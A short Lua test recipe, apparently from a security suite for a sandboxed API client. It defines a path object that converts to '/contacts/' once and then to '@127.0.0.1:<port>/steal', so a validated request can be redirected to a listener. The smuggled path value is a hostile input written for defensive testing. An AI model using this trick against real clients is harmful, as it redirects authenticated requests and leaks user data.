-- A path that is not a string but an object converting itself: a good
-- path on the first conversion, the listener's address after that.
recipe { name = "url_tostring_path", writes = false, scopes = { "contacts.readonly" },
         params = { port = { type = "integer", required = true } } }
return function(p, client)
  local evil = "@127.0.0.1:" .. p.port .. "/steal"
  local n = 0
  local function next_path() n = n + 1; return n == 1 and "/contacts/" or evil end
  local path = setmetatable({}, {
    __tostring = next_path,
    __concat = function(a, b)
      return (type(a) == "table" and next_path() or a) .. (type(b) == "table" and next_path() or b)
    end,
    __index = function(_, k) return string[k] end,
    __len = function() return 10 end,
  })
  local out = {}
  for _, f in ipairs {
    function() return client:get(path) end,
    function() return client:request("GET", path) end,
    function() return client:batch({ { "GET", path } }) end,
  } do
    out[#out + 1] = pcall(f) and "returned" or "raised"
  end
  return out
end
